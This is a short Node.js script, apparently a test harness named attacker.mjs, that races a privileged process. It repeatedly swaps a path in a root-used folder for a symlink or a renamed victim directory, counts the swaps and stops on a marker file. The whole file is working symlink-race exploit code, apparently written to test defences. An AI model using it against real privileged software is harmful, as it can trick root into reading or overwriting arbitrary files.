// Another user, in whose folder root works: swaps whatever appears at PATH for a link to a victim.
// `attacker.mjs PATH VICTIMS`; counts swaps in `PATH.swaps`, and stops once `PATH.stop` is there.
// It is run by its text, since its user may read no file of ours.
import { existsSync, renameSync, rmdirSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";

const [path, ...victims] = process.argv.slice(1);
const tried = (act) => {
  try {
    act();
    return true;
  } catch {
    return false;
  }
};

let swaps = 0;
for (let round = 0; round % 64 > 0 || !existsSync(`${path}.stop`); round += 1) {
  const victim = victims[swaps % victims.length];
  if (!tried(() => renameSync(path, `${path}.away`))) continue;
  // A victim may be a directory of root's in the same folder, or a link may lead elsewhere.
  const isBeside = victim.startsWith(`${path}.`);
  if (isBeside) tried(() => renameSync(victim, path));
  else tried(() => symlinkSync(victim, path));
  swaps += 1;
  if (swaps % 16 === 0) writeFileSync(`${path}.swaps`, String(swaps));
  for (let at = performance.now(); performance.now() - at < 0.2; );
  if (isBeside) tried(() => renameSync(path, victim));
  else tried(() => unlinkSync(path));
  // A directory with something in it stays, by another name.
  if (!tried(() => rmdirSync(`${path}.away`))) tried(() => renameSync(`${path}.away`, `${path}.away-${swaps}`));
}
writeFileSync(`${path}.swaps`, String(swaps));
